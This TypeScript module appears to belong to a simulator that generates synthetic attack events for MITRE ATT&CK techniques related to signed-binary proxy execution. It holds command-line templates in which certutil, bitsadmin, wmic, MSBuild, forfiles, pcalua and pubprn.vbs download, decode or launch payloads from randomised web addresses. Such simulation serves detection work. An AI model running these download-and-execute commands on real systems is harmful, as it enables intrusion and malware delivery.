import { fileName, word } from "../../world/names.ts";
import type { Session } from "../../world/session.ts";
import { type Chain, chain } from "../chain.ts";
import { type Act, perform, written } from "./act.ts";
import { dropPath, webFile } from "./delivery.ts";

function neighbour(id: string, name: string, act: (s: Session) => Omit<Act, "technique">): Chain {
  const technique = id.split("/")[0] ?? "";
  return chain(id, (s) => {
    perform(s, name, { ...act(s), technique, scope: "adjacent" });
  });
}

/** Neighbours of T1218: techniques that share its binaries or its idea. */
export const adjacent: readonly Chain[] = [
  neighbour("T1105/certutil", "certutil.exe", (s) => {
    const url = webFile(s, ["exe", "txt", "dat"]);
    const path = dropPath(s, ["exe", "dll"]);
    const verb = s.random.pick(["-urlcache -split -f", "-urlcache -f", "/verifyctl /split /f"]);
    return {
      args: `${verb} ${url} ${path}`,
      payload: url,
      kind: "url",
      note: "a file fetched by certutil",
      fetches: [url],
      writes: [path],
      silent: true,
    };
  }),
  neighbour("T1140/certutil", "certutil.exe", (s) => {
    const from = dropPath(s, ["txt", "b64", "cer"]);
    const to = dropPath(s, ["exe", "dll"]);
    return {
      args: `-decode ${from} ${to}`,
      payload: from,
      kind: "process",
      note: "a file decoded by certutil",
      drops: [from],
      writes: [to],
      silent: true,
    };
  }),
  neighbour("T1202/forfiles", "forfiles.exe", (s) => {
    const exe = dropPath(s, ["exe"]);
    return {
      args: `/p C:\\Windows\\System32 /m notepad.exe /c ${exe}`,
      payload: exe,
      kind: "exe",
      note: "forfiles starts a program",
      drops: [exe],
    };
  }),
  neighbour("T1202/pcalua", "pcalua.exe", (s) => {
    const exe = dropPath(s, ["exe", "cpl"]);
    return {
      args: `-a ${written(s, exe)}`,
      payload: exe,
      kind: "exe",
      note: "the compatibility assistant starts a program",
      drops: [exe],
    };
  }),
  neighbour("T1047/wmic", "wmic.exe", (s) => {
    const exe = dropPath(s, ["exe"]);
    return {
      args: `process call create "${exe}"`,
      payload: exe,
      kind: "process",
      note: "a program started through WMI",
      drops: [exe],
      silent: true,
    };
  }),
  neighbour("T1220/wmic", "wmic.exe", (s) => {
    const url = webFile(s, ["xsl"]);
    return {
      args: `os get /format:"${url}"`,
      payload: url,
      kind: "script",
      note: "a style sheet from the web",
      fetches: [url],
      loads: ["jscript.dll"],
    };
  }),
  neighbour("T1127.001/msbuild", "MSBuild.exe", (s) => {
    const project = dropPath(s, ["csproj", "xml", "proj"]);
    return {
      args: `${written(s, project)} ${s.random.pick(["", "/nologo", "/noconsolelogger"])}`,
      payload: project,
      kind: "xml",
      note: "a project file that holds code",
      drops: [project],
    };
  }),
  neighbour("T1216.001/pubprn", "cscript.exe", (s) => {
    const url = webFile(s, ["sct"]);
    return {
      args: `/b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs ${word(s.random)} script:${url}`,
      payload: `script:${url}`,
      kind: "script",
      note: "a script of Windows runs a scriptlet",
      fetches: [url],
      loads: ["scrobj.dll"],
    };
  }),
  neighbour("T1197/bitsadmin", "bitsadmin.exe", (s) => {
    const url = webFile(s, ["jpg", "png", "exe"]);
    const path = dropPath(s, ["exe"]);
    const args = `/transfer ${fileName(s.random)} ${s.random.pick(["", "/download /priority foreground "])}${url} ${path}`;
    return {
      args,
      payload: url,
      kind: "url",
      note: "a file fetched by the transfer service",
      writes: [path],
      silent: true,
    };
  }),
];
